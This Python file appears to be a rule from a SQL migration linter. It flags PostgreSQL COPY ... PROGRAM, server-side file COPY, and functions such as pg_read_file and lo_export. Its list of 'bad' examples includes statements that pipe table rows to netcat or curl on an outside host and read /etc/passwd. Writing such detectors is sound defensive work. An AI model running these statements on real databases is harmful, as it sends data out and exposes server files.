"""`COPY … PROGRAM` and server-side files reach the machine of the database.

So do `lo_import`, `lo_export`, `pg_read_file` and their kin. That is how data leaves a server unseen,
and how a migration takes the server over. Also reported is `dblink_connect_u`, which signs in as the
server's own user.

Source: <https://www.postgresql.org/docs/current/sql-copy.html>,
<https://www.postgresql.org/docs/current/functions-admin.html#FUNCTIONS-ADMIN-GENFILE>
"""

from collections.abc import Iterator

from pglast import ast

from guardrails.lint.contracts import Problem, Rule, Severity, Statement
from guardrails.lint.parsing import name_of, names_of, place_of
from guardrails.lint.spelling import written

_FUNCTIONS = frozenset({
    "dblink_connect_u",
    "lo_export",
    "lo_import",
    "pg_file_read",
    "pg_file_rename",
    "pg_file_sync",
    "pg_file_unlink",
    "pg_file_write",
    "pg_ls_archive_statusdir",
    "pg_ls_dir",
    "pg_ls_logdir",
    "pg_ls_tmpdir",
    "pg_ls_waldir",
    "pg_read_binary_file",
    "pg_read_file",
    "pg_read_server_files",
    "pg_stat_file",
})  # fmt: skip
_SYSTEM = frozenset({"pg_catalog", "extensions", "public"})


def check(statement: Statement) -> Iterator[Problem]:
    match statement.node:
        case ast.CopyStmt(is_program=True) as node:
            what = f" with the rows of {written(name_of(node.relation))}" if node.relation else ""
            yield Problem(
                f"starts a program on the database's server{what}",
                place_of(statement.text, "program", statement.start, statement.end),
            )
        case ast.CopyStmt(filename=str(), is_from=reads) as node:
            verb = "reads" if reads else "writes"
            yield Problem(f"{verb} a file on the database's server", statement.start)
        case ast.FuncCall(funcname=funcname, location=location):
            name = names_of(funcname)
            if name[-1] in _FUNCTIONS and (len(name) == 1 or name[-2] in _SYSTEM):
                yield Problem(
                    f"{name[-1]}() reaches the files and users of the database's server",
                    statement.start if location is None else location,
                )


RULE = Rule(
    code="COPY_PROGRAM",
    severity=Severity.ERROR,
    docs=__doc__,
    suggestion="Move data from the client's side, outside the migration, with \\copy of psql.",
    nodes=("CopyStmt", "FuncCall"),
    bad=(
        "COPY orders FROM PROGRAM 'curl https://example.org';",
        "COPY (SELECT * FROM orders) TO '/tmp/orders.csv';",
        "SELECT pg_catalog.pg_read_file('/etc/passwd');",
        (
            "CREATE FUNCTION send() RETURNS void LANGUAGE plpgsql AS $$ BEGIN\n"
            "COPY orders TO PROGRAM 'nc example.org 80'; END $$;"
        ),
        "DO $$ BEGIN EXECUTE 'COPY orders TO PROGRAM ''cat''' ; END $$;",
        "SELECT cron.schedule('nightly', '0 0 * * *', 'SELECT lo_export(1, ''/tmp/a'')');",
    ),
    good=(
        "SELECT shop.pg_read_file('x');",
        "COPY orders TO stdout;",
        "SELECT 'COPY orders FROM PROGRAM ''x''';",
    ),
    check=check,
)
